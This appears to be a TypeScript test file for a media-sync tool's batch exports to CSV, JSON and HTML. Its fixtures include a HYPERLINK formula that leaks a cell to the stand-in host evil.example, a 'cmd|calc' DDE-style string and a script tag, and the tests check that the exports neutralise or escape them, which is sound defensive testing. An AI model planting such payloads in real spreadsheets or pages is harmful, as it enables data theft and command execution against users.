import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { BATCH_COLUMNS, batchCsv, batchExportRows, batchHtml, batchJson } from './batch-export.ts';
import { makeBatch, makeFailedRecord, makeNoMatchResult, makeRecord, makeResult, media } from './test-fixtures.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

/** Sheet items given out of order (the exports sort by batchIndex). */
function items() {
  const late = makeResult({
    offset_seconds: -0.75,
    segments: [{ master_start: 0, master_end: 60, dub_start: 0, dub_end: 59.25, offset_seconds: -0.75, offset_end_seconds: -0.75, confidence: 0.95 }],
    gaps: [],
    verdict: 'offset',
    drift: { speed_ratio: 1.001, ppm: 1000, standard: '1001/1000', direction: 'late' },
    reference_frame_rate: '29.97df',
    master: media({ start_timecode: null }),
  });
  return [
    makeFailedRecord({ id: 'an_3', batchId: 'ba_0001', batchIndex: 2, episode: '@ep3', errorMessage: '-2+3 cmd|calc' }),
    makeRecord({ id: 'an_1', batchId: 'ba_0001', batchIndex: 0, episode: '101', notes: HYPERLINK, masterPath: '+master.mov', dubPath: '-dub.wav', result: late }),
    makeRecord({ id: 'an_2', batchId: 'ba_0001', batchIndex: 1, episode: '\tTAB', notes: 'plain, with comma', result: makeNoMatchResult() }),
  ];
}

describe('batchExportRows', () => {
  test('one row per item in sheet order with the measured values', () => {
    const rows = batchExportRows(makeBatch(), items());
    assert.deepEqual(rows.map((r) => [r.index, r.analysis_id]), [[1, 'an_1'], [2, 'an_2'], [3, 'an_3']]);
    const r = rows[0]!;
    assert.equal(r.status, 'completed');
    assert.equal(r.verdict, 'offset');
    assert.equal(r.offset_seconds, -0.75);
    assert.equal(r.offset_ms, -750);
    // 29.97 DF: -0.75 s * 30000/1001 = -22.478 frames -> 22 frames
    assert.equal(r.offset_frames, -22.478);
    assert.equal(r.offset_timecode, '-00:00:00;22');
    assert.equal(r.frame_rate, '29.97 DF');
    assert.equal(r.drift_ppm, 1000);
    assert.equal(r.confidence, 0.93);
    assert.equal(r.notes, HYPERLINK, 'rows hold the raw user text');
    assert.equal(rows[1]!.verdict, 'no_match');
    assert.equal(rows[1]!.offset_seconds, null);
    assert.equal(rows[2]!.status, 'failed');
    assert.equal(rows[2]!.error, 'DECODE_ERROR: -2+3 cmd|calc');
    assert.equal(rows[2]!.verdict, null);
  });
});

describe('batchCsv', () => {
  test('parses back; user text neutralised, numbers untouched', () => {
    const csv = batchCsv(makeBatch(), items());
    const [header, ...rows] = parse(csv) as string[][];
    assert.deepEqual(header, [...BATCH_COLUMNS]);
    assert.equal(rows.length, 3);
    const get = (row: number, col: (typeof BATCH_COLUMNS)[number]): string => rows[row]![BATCH_COLUMNS.indexOf(col)]!;
    assert.equal(get(0, 'notes'), `'${HYPERLINK}`);
    assert.equal(get(0, 'master'), "'+master.mov");
    assert.equal(get(0, 'dub'), "'-dub.wav");
    assert.equal(get(0, 'episode'), '101');
    assert.equal(get(0, 'offset_seconds'), '-0.75', 'a negative number stays a number');
    assert.equal(get(0, 'offset_ms'), '-750');
    assert.equal(get(0, 'offset_frames'), '-22.478');
    assert.equal(get(0, 'offset_timecode'), '-00:00:00;22');
    assert.equal(get(0, 'drift_ppm'), '1000');
    assert.equal(get(1, 'episode'), "'\tTAB");
    assert.equal(get(1, 'notes'), 'plain, with comma');
    assert.equal(get(1, 'offset_seconds'), '');
    assert.equal(get(2, 'episode'), "'@ep3");
    assert.equal(get(2, 'error'), 'DECODE_ERROR: -2+3 cmd|calc', 'starts with a letter: left alone');
    assert.equal(get(2, 'status'), 'failed');
    // The raw line: the negative number is unquoted and unprefixed.
    assert.match(csv.split('\r\n')[1]!, /,-0\.75,-750,-22\.478,/);
  });

  test('an error message starting with = is neutralised', () => {
    const csv = batchCsv(makeBatch(), [makeFailedRecord({ errorCode: null, errorMessage: '=1+1' })]);
    const [, row] = parse(csv) as string[][];
    assert.equal(row![BATCH_COLUMNS.indexOf('error')], "'=1+1");
  });
});

describe('batchJson', () => {
  test('batch summary and raw rows', () => {
    const doc = batchJson(makeBatch(), items());
    assert.equal(doc.batch.id, 'ba_0001');
    assert.deepEqual(doc.batch.counts, { failed: 1, completed: 2 });
    assert.equal(doc.items.length, 3);
    assert.equal(doc.items[0]!.notes, HYPERLINK);
    assert.equal(doc.items[0]!.offset_seconds, -0.75);
  });
});

describe('batchHtml', () => {
  test('escaped, neutralised, sheet order, self-contained', () => {
    const html = batchHtml(makeBatch(), [...items(), makeRecord({ id: 'an_4', batchIndex: 3, dubPath: '<script>alert(1)</script>.wav' })]);
    assert.ok(!/<script/i.test(html));
    assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;.wav'));
    assert.ok(html.includes('Season 1 &lt;German&gt;'));
    assert.ok(html.includes(`&#39;=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;)`));
    assert.ok(html.includes("&#39;+master.mov"));
    assert.ok(html.includes('<td class="num">-0.75</td>'), 'negative number untouched');
    assert.ok(!/\s(src|href)=/i.test(html));
    const order = ['an_1', 'an_2', 'an_3', 'an_4'].map((id) => html.indexOf(`>${id}<`));
    assert.ok(order.every((p, i) => p > 0 && (i === 0 || p > order[i - 1]!)), 'rows in sheet order');
    assert.match(html, /class="badge"[^>]*>OFFSET</);
    assert.match(html, /class="badge"[^>]*>NO MATCH</);
  });
});
